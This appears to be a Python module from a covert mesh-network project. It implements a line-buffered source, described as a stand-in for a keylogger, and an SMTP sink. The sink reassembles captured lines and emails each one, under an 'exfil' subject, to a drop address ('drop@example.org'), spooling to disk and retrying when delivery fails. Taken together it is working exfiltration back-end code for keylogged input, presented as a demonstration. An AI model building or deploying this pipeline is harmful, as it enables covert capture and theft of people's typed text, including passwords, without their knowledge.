"""Demonstration applications: a line-buffered covert text source and an
SMTP gateway sink.

The source stands in for a keylogger: it buffers an arbitrary byte stream
and emits frames only when a line feed arrives (a real keylogger would
feed the same byte stream through a pipe; hooking the OS input layer is
out of scope here).  The sink reassembles delivered frames per source
address into lines and hands each line to a local SMTP server, or spools
RFC-822-style files to a directory when no server is reachable; spooled
messages are flushed on the next opportunity.
"""

from __future__ import annotations

import smtplib
import time
from dataclasses import dataclass, field
from email.message import EmailMessage
from pathlib import Path

from .guwal import GuwalFrame, chunk_message

DEDUP_WINDOW = 300.0


@dataclass
class ExfilRecord:
    src_guwal: int
    received_at: float
    text: str
    raw_frames: list[bytes] = field(default_factory=list)


class LineSource:
    """Buffers input bytes and emits chunked frames at every line feed.

    The newline is included in the transmitted text so the receiving side
    can find line boundaries; malformed UTF-8 is replaced per the standard
    replacement-character policy.
    """

    def __init__(self, src: int, dst: int, *, priority: bool = False, ack: bool = True):
        self.src = src
        self.dst = dst
        self.priority = priority
        self.ack = ack
        self._buffer = bytearray()
        self._pad_counter = 0

    def feed(self, data: bytes) -> list[GuwalFrame]:
        """Consume bytes; returns the frames for every completed line."""
        self._buffer.extend(data)
        frames: list[GuwalFrame] = []
        while True:
            nl = self._buffer.find(b"\n")
            if nl < 0:
                break
            line = self._buffer[: nl + 1]
            del self._buffer[: nl + 1]
            text = line.decode("utf-8", errors="replace")
            frames.extend(
                chunk_message(
                    text,
                    src=self.src,
                    dst=self.dst,
                    priority=self.priority,
                    ack_requested=self.ack,
                    pad=self._pad_counter,
                )
            )
            self._pad_counter += 1
        return frames

    def pending_bytes(self) -> int:
        return len(self._buffer)


@dataclass
class SinkConfig:
    recipient: str = "drop@example.org"
    sender: str = "covert-mesh@localhost"
    smtp_host: str | None = None
    smtp_port: int = 25
    spool_dir: str | Path = "spool"
    tunnel: bool = False  # include the raw 18-byte header+frame images hex-encoded
    subject_prefix: str = "exfil"


class SmtpSink:
    """Reassembles delivered frames into lines and submits them as email.

    One message per completed line.  Reassembly is keyed by source address
    only (the protocol has no sequence numbers), so interleaved multi-frame
    lines from one source concatenate in delivery order -- a documented
    protocol limitation.  Submission never raises: SMTP failures fall back
    to the spool directory, and spooled mail is retried by flush_spool().
    """

    def __init__(self, config: SinkConfig | None = None):
        self.config = config or SinkConfig()
        self._partials: dict[int, str] = {}
        self._raw_partials: dict[int, list[bytes]] = {}
        self._seen: dict[tuple[int, int], float] = {}
        self.records: list[ExfilRecord] = []
        self._counter = 0
        Path(self.config.spool_dir).mkdir(parents=True, exist_ok=True)

    def deliver(
        self,
        frame: GuwalFrame,
        now: float | None = None,
        raw: bytes | None = None,
    ) -> list[ExfilRecord]:
        """Feed one delivered frame; returns records for completed lines.

        ``raw`` is the received header+frame wire image for tunnel mode.
        """
        now = time.time() if now is None else now
        src = frame.header.src
        dedup_key = (src, frame.crc)
        last = self._seen.get(dedup_key)
        if last is not None and now - last < DEDUP_WINDOW:
            return []
        self._seen[dedup_key] = now
        self._partials[src] = self._partials.get(src, "") + frame.text
        self._raw_partials.setdefault(src, []).append(
            raw if raw is not None else frame.to_bytes()
        )
        done: list[ExfilRecord] = []
        while "\n" in self._partials[src]:
            line, rest = self._partials[src].split("\n", 1)
            self._partials[src] = rest
            raws = self._raw_partials.pop(src, [])
            if rest:
                # frames past the line feed belong to the next line
                self._raw_partials[src] = raws[-1:]
            rec = ExfilRecord(src_guwal=src, received_at=now, text=line, raw_frames=raws)
            self.records.append(rec)
            self._submit(rec)
            done.append(rec)
        return done

    def flush_partial(self, src: int, now: float | None = None) -> ExfilRecord | None:
        """Emit a trailing unterminated line (end of capture)."""
        text = self._partials.pop(src, "")
        raws = self._raw_partials.pop(src, [])
        if not text:
            return None
        rec = ExfilRecord(src, time.time() if now is None else now, text, raws)
        self.records.append(rec)
        self._submit(rec)
        return rec

    def flush_all_partials(self, now: float | None = None) -> list[ExfilRecord]:
        return [
            rec
            for src in list(self._partials)
            if (rec := self.flush_partial(src, now)) is not None
        ]

    def _build_message(self, rec: ExfilRecord) -> EmailMessage:
        msg = EmailMessage()
        msg["From"] = self.config.sender
        msg["To"] = self.config.recipient
        msg["Subject"] = f"{self.config.subject_prefix}: line from node {rec.src_guwal}"
        msg["X-Source-Address"] = str(rec.src_guwal)
        msg["X-Received-At"] = f"{rec.received_at:.3f}"
        body = rec.text + "\n"
        if self.config.tunnel and rec.raw_frames:
            body += "\n-- tunneled frames --\n"
            body += "\n".join(r.hex() for r in rec.raw_frames) + "\n"
        msg.set_content(body)
        return msg

    def _submit(self, rec: ExfilRecord) -> None:
        msg = self._build_message(rec)
        if self.config.smtp_host is not None:
            try:
                with smtplib.SMTP(self.config.smtp_host, self.config.smtp_port, timeout=10) as s:
                    s.send_message(msg)
                return
            except OSError:
                pass  # fall through to the spool
        self._spool(msg)

    def _spool(self, msg: EmailMessage) -> Path:
        path = Path(self.config.spool_dir) / f"msg_{self._counter:05d}.eml"
        self._counter += 1
        path.write_text(str(msg), encoding="utf-8")
        return path

    def flush_spool(self) -> int:
        """Retry spooled messages over SMTP; returns how many were sent."""
        if self.config.smtp_host is None:
            return 0
        sent = 0
        for path in sorted(Path(self.config.spool_dir).glob("msg_*.eml")):
            try:
                with smtplib.SMTP(self.config.smtp_host, self.config.smtp_port, timeout=10) as s:
                    s.sendmail(
                        self.config.sender,
                        [self.config.recipient],
                        path.read_text(encoding="utf-8"),
                    )
            except OSError:
                break
            path.unlink()
            sent += 1
        return sent
